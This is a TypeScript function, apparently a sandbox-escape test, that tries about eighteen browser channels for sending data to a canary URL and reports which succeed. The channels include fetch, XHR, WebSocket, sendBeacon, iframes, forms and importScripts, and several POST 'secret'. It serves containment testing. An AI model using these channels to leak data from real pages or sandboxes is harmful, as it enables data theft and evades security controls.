/**
 * Tries every way out that a script has, and returns those that did not fail. Runs in the page and in a worker, so it uses
 * nothing from outside itself. Some failures are silent (a beacon returns true, a blocked frame loads): the canary's count decides.
 */
export async function tryToLeave([canary, where]: readonly [url: string, where: string]): Promise<string[]> {
  const target = (name: string) => `${canary}/${where}/${name}`;
  const settled = (object: EventTarget, good: string) =>
    new Promise<boolean>((resolve) => {
      object.addEventListener(good, () => resolve(true));
      object.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(false), 1000);
    });
  const element = (tag: string, attributes: Record<string, string>) => {
    const made = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.head.append(made);
    return settled(made, 'load');
  };
  const asynchronous = (url: string) => {
    const request = new XMLHttpRequest();
    const loaded = settled(request, 'load');
    request.open('POST', url);
    request.send('secret');
    return loaded;
  };

  const everywhere: Record<string, (url: string) => unknown> = {
    fetch: (url) => fetch(url),
    'fetch-no-cors': (url) => fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' }),
    xhr: asynchronous,
    websocket: (url) => settled(new WebSocket(url.replace('http', 'ws')), 'open'),
    'event-source': (url) => settled(new EventSource(url), 'open'),
    import: (url) => import(/* @vite-ignore */ url),
  };
  const inPage: typeof everywhere = {
    beacon: (url) => void navigator.sendBeacon(url, 'secret'),
    image: (url) => element('img', { src: url }),
    script: (url) => element('script', { src: url }),
    style: (url) => element('link', { rel: 'stylesheet', href: url }),
    prefetch: (url) => element('link', { rel: 'prefetch', href: url }),
    preload: (url) => element('link', { rel: 'preload', as: 'fetch', href: url }),
    frame: (url) => void element('iframe', { src: url }),
    object: (url) => void element('object', { data: url }),
    video: (url) => element('video', { src: url }),
    worker: (url) => settled(new Worker(url), 'message'),
    form: (url) => {
      const form = document.createElement('form');
      Object.assign(form, { action: url, method: 'post', target: 'nowhere' });
      document.body.append(form);
      form.submit();
    },
  };
  const inWorker: typeof everywhere = {
    'import-scripts': (url) => (globalThis as unknown as { importScripts(url: string): void }).importScripts(url),
  };

  const left: string[] = [];
  for (const [name, leave] of Object.entries({ ...everywhere, ...(where === 'page' ? inPage : inWorker) })) {
    try {
      const outcome = await leave(target(name));
      if (outcome !== false && outcome !== undefined) left.push(name);
    } catch {
      // As it should be.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 500)); // whatever is on its way arrives
  return left;
}
